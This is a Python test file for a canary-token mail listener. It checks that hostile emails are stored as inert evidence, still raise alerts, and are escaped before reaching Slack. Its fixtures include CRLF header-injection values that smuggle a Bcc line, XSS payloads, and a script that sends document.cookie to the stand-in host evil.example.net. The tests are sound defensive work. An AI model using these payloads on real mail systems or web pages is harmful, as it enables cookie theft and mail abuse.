"""Hostile mail is kept as inert data and still fires."""

from __future__ import annotations

import smtplib

import pytest

from tests.canary.conftest import CanaryStack
from tests.support import wait_for

MALFORMED = (
    b"From: =?utf-8?B?!!!not-base64?= <a@attacker.example.net>\r\n"
    b"Subject: =?x-unknown-charset?Q?broken?=\r\n"
    b'Content-Type: multipart/mixed; boundary="never-closed"\r\n'
    b"\r\n--never-closed\r\nContent-Type: text/plain; charset=no-such-charset\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n%%%% not base64 \xff\xfe\r\n"
    b"--never-closed\r\nContent-Type: application/octet-stream\r\n"
    b"Content-Disposition: attachment; filename*=bogus''%ZZ%00.exe\r\n\r\nMZ\x00\x01\r\n"
)
INJECTION = (
    b"From: a@attacker.example.net\r\n"
    b"Subject: hello\r\n  Bcc: victim@example.com\r\n"
    b"X-Evil: =?utf-8?q?line=0D=0ABcc:_victim@example.com=0D=0A=0D=0A<b>x</b>?=\r\n"
    b"\r\nbody\r\n"
)
HTML = (
    b"From: a@attacker.example.net\r\nSubject: <img src=x onerror=alert(1)>\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    b"<html><body><script>fetch('https://evil.example.net/'+document.cookie)</script>"
    b"<a href=\"javascript:alert(1)\">x</a><a href='https://evil.example.net/p'>y</a>"
    b"<iframe src=https://evil.example.net/f></iframe></body></html>\r\n"
)


def big_mail(megabytes: int) -> bytes:
    line = b"QUFB" * 249 + b"\r\n"  # RFC 5322's longest line: fewer lines to read
    head = (
        b"From: big@attacker.example.net\r\nSubject: your invoice\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: application/pdf; name="invoice.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n"
    )
    return head + line * (megabytes * 1024 * 1024 // len(line))


def test_hostile_mail_is_stored_as_data_and_fires(canary_stack: CanaryStack) -> None:
    s = canary_stack
    made = s.mint("crm", 4)
    mails = {made[0][0].email: MALFORMED, made[1][0].email: INJECTION, made[2][0].email: HTML}
    for to, body in mails.items():
        with smtplib.SMTP("127.0.0.1", s.smtp_port, timeout=10) as client:
            client.sendmail("a@attacker.example.net", [to], body)
    with smtplib.SMTP("127.0.0.1", s.smtp_port, timeout=30) as client:
        with pytest.raises(smtplib.SMTPDataError) as refused:
            client.sendmail("big@attacker.example.net", [made[3][0].email], big_mail(50))
        assert refused.value.smtp_code == 552
        # The listener is fine afterwards.
        client.sendmail("a@attacker.example.net", [made[1][0].email], b"Subject: again\r\n\r\nx")

    alerts = wait_for(lambda: (h := s.receiver.json("/hook")) and len(h) >= 4 and h, timeout=10)
    assert {a["canary"] for a in alerts} == {c.id for c, _ in made}

    malformed = s.store.hits(made[0][0].id)[0].evidence
    assert malformed["attachments"]
    assert "defects" in malformed or malformed["attachments"][0]["name"] is not None

    injected = s.store.hits(made[1][0].id)[0].evidence
    for _name, value in injected["headers"]:
        assert "\r" not in value
        assert "\n" not in value
    assert [n.lower() for n, _ in injected["headers"]].count("bcc") == 0

    html = s.store.hits(made[2][0].id)[0].evidence
    assert "<script>" in html["html_source"]  # kept verbatim, as text
    assert "https://evil.example.net/p" in html["links"]
    slack = " ".join(b["text"] for b in s.receiver.json("/slack"))
    assert "<img" not in slack
    assert "&lt;img src=x onerror=alert(1)&gt;" in slack

    big = s.store.hits(made[3][0].id)[0].evidence
    assert big["complete"] is False
    assert big["size"] > 50_000_000
    assert ["Subject", "your invoice"] in big["headers"]
